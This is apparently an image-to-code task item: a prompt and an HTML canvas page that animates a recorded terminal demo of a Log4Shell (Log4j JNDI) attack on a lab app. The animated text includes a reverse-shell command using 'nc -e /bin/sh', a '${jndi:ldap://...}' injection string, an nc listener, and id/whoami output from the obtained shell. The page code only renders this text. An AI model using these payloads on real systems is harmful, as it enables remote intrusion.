
Write an HTML page with a canvas that moves like this. It is 998 px wide and 561 px high and loops after 9700 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #272629; }
  canvas, pre { position: absolute; margin: 0; }
  canvas { left: 0; top: 0; }
  pre {
    left: 3.9px;
    color: #e3d5ad;
    font: 9.862px/15.2px "Noto Sans Mono", "DejaVu Sans Mono", monospace;
    font-variant-ligatures: none;
    text-rendering: geometricPrecision;
    white-space: pre;
  }
  .label { color: #d79921; }
  .good { color: #98971a; }
</style>
</head>
<body>
<canvas id="stage" width="998" height="561"></canvas>
<pre id="server"></pre>
<pre id="attack"></pre>
<pre id="shell"></pre>
<script>
const LOOP = 9700, COLS = 168, LEFT = 3.9, TOP = 4, CELL = 5.917, ROW = 15.2;
const PALE = '#e3d5ad', OLIVE = '#88871c';
const $ = id => document.getElementById(id);
const ctx = $('stage').getContext('2d');

const label = 'log4j_vulnerable_app  |';
const prompt = 'demo@cbc30e2e73cf:/usr/src/app# ';
const log = (time, thread, name, text) =>
  `${label} 2021-12-15 21:${time}  INFO 1 --- [${thread.padStart(15)}] ${name.padEnd(40)} : ${text}`;
const boot = (time, name, text) => log(time, 'main', name, text);
const request = (time, name, text) => log(time, 'nio-8080-exec-1', name, text);
const trace = text => `${label}         ${text}`;
const info = (time, text) => `I, [2021-12-15T21:44:${time} #91]  INFO -- : ${text}`;

// Each entry: time of appearance, then the lines
const server = [
  [0,
    boot('43:39.600', 'f.c.l.v.VulnerableAppApplication', 'No active profile set, falling back to default profiles: default'),
    boot('43:42.622', 'o.s.b.w.e.t.TomcatWebServer', 'Tomcat initialized with port(s): 8080 (http)'),
    boot('43:42.694', 'o.a.c.c.StandardService', 'Starting service [Tomcat]'),
    boot('43:42.695', 'o.a.c.c.StandardEngine', 'Starting Servlet engine: [Apache Tomcat/9.0.55]'),
    boot('43:42.852', 'o.a.c.c.C.[.[.[/]', 'Initializing Spring embedded WebApplicationContext'),
    boot('43:42.852', 'w.s.c.ServletWebServerApplicationContext', 'Base WebApplicationContext: initialization completed in 2934 ms'),
    boot('43:44.167', 'o.s.b.w.e.t.TomcatWebServer', "Tomcat started on port(s): 8080 (http) with context path ''"),
    boot('43:44.211', 'f.c.l.v.VulnerableAppApplication', 'Started VulnerableAppApplication in 5.863 seconds (JVM running for 8.015)')],
  [3100,
    request('44:14.909', 'o.a.c.c.C.[.[.[/]', "Initializing Spring DispatcherServlet 'dispatcherServlet'")],
  [3200,
    request('44:14.910', 'o.s.w.s.DispatcherServlet', "Initializing Servlet 'dispatcherServlet'"),
    request('44:14.911', 'o.s.w.s.DispatcherServlet', 'Completed initialization in 1 ms')],
  [3400,
    trace('at org.apache.tomcat.util.net.SocketProcessorBase.run(SocketProcessorBase.java:49)'),
    trace('at org.apache.tomcat.util.threads.ThreadPoolExecutor.runWorker(ThreadPoolExecutor.java:1191)'),
    trace('at org.apache.tomcat.util.threads.ThreadPoolExecutor$Worker.run(ThreadPoolExecutor.java:659)'),
    trace('at org.apache.tomcat.util.threads.TaskThread$WrappingRunnable.run(TaskThread.java:61)'),
    trace('at java.lang.Thread.run(Thread.java:748)'),
    label + ' Caused by: java.lang.ClassCastException: AYJGHLQ cannot be cast to javax.naming.spi.ObjectFactory',
    trace('at javax.naming.spi.NamingManager.getObjectFactoryFromReference(NamingManager.java:163)'),
    trace('at javax.naming.spi.DirectoryManager.getObjectInstance(DirectoryManager.java:189)'),
    trace('at com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1085)'),
    trace('... 88 more'),
    label,
    request('44:15.015', 'HelloWorld', 'Received a request for API version ${jndi:ldap://10.10.10.3:1389}')]
];

const good = 'http://10.10.10.2:8080 is using vulnerable log4j library';
const attack = [
  [0, prompt + "./log4j.rb -t http://10.10.10.2:8080 -a 10.10.10.3  -l 1389 -h 1010 -c 'nc 10.10.10.3 1337 -e /bin/sh'"],
  [3000, info('14.753236', 'Starting HTTP Server'), info('14.753669', 'Starting LDAP Server')],
  [3300, info('15.055060', 'Received LDAP Request back'), info('15.055154', 'Sending LDAP Response for HTTP callback')],
  [3400, ` ${'-'.repeat(33)} HTTPServer: 10.10.10.2 - - [15/Dec/2021:21:44:15 UTC] "GET /AYJGHLQ.class HTTP/1.1" 200 485 "-" "Java/1.8.0_181"`],
  [3500, info('15.235422', good), prompt]
];

const idKeys = [5500, 5600];
const whoKeys = [6200, 6300, 6400, 7000, 7100, 7300];
const shell = [
  [0, prompt + 'nc -nvlp 1337'],
  [1700, 'Listening on 0.0.0.0 1337'],
  [3400, 'Connection received on 10.10.10.2 43877'],
  [5500, t => typed('id', idKeys, t)],
  [5800, 'uid=0(demo) gid=0(demo) groups=0(demo),1(bin),2(daemon),3(sys),4(adm),6(disk),10(wheel),11(floppy),20(dialout),26(tape),27(video)'],
  [6200, t => typed('whoami', whoKeys, t)],
  [7500, 'demo']
];

// Time, row, column, hollow block or bar
const cursors = [
  [0, 26, 44, true], [1300, 26, 44], [1700, 28, 0], [2200, 15, 134], [2800, 16, 0],
  [3000, 18, 0], [3300, 20, 0], [3400, 21, 0], [3500, 22, 32], [5100, 29, 0],
  ...idKeys.map((at, i) => [at, 29, i + 1]),
  [5800, 31, 0],
  ...whoKeys.map((at, i) => [at, 31, i + 1]),
  [7500, 33, 0], [9000, 33, 0, true]
];

const typed = (word, keys, t) => word.slice(0, keys.filter(at => at <= t).length);

function rowsAt(list, t) {
  return list.filter(([at]) => at <= t)
    .flatMap(([, ...lines]) => lines)
    .map(line => typeof line === 'function' ? line(t) : line)
    .flatMap(line => line.match(new RegExp(`.{1,${COLS}}`, 'g')) || ['']);
}

function show(id, rows, mark, cls) {
  const nodes = rows.flatMap(row => {
    const i = row.indexOf(mark);
    if (i < 0) return [row + '\n'];
    const span = document.createElement('span');
    span.className = cls;
    span.textContent = mark;
    return [row.slice(0, i), span, row.slice(i + mark.length) + '\n'];
  });
  $(id).replaceChildren(...nodes);
}

function rule(row, color) {
  ctx.fillStyle = color;
  ctx.fillRect(LEFT, TOP + row * ROW + 7.25, 998 - LEFT, 1.1);
}

function drawCursor([, row, col, hollow]) {
  const x = LEFT + col * CELL, y = TOP + row * ROW;
  if (hollow) {
    ctx.strokeStyle = PALE;
    ctx.lineWidth = 0.9;
    ctx.strokeRect(x + 0.45, y + 0.45, CELL - 0.5, ROW - 0.9);
  } else {
    ctx.fillStyle = PALE;
    ctx.fillRect(x, y, 1, ROW);
  }
}

function draw(t) {
  const middle = t >= 2200 && t < 5100;
  ctx.clearRect(0, 0, 998, 561);
  rule(14, middle ? OLIVE : PALE);
  rule(25, OLIVE);
  rule(36, middle ? PALE : OLIVE);
  drawCursor(cursors.filter(([at]) => at <= t).pop());
  show('server', rowsAt(server, t).slice(-13), label, 'label');
  show('attack', rowsAt(attack, t), good, 'good');
  show('shell', rowsAt(shell, t), good, 'good');
}

[['server', 0], ['attack', 15], ['shell', 26]].forEach(([id, row]) => {
  $(id).style.top = TOP + row * ROW + 'px';
});

// Every change falls on a tenth of a second
const start = performance.now();
let last = -1;
function tick() {
  const t = Math.floor((performance.now() - start) % LOOP / 100) * 100;
  if (t !== last) draw(last = t);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
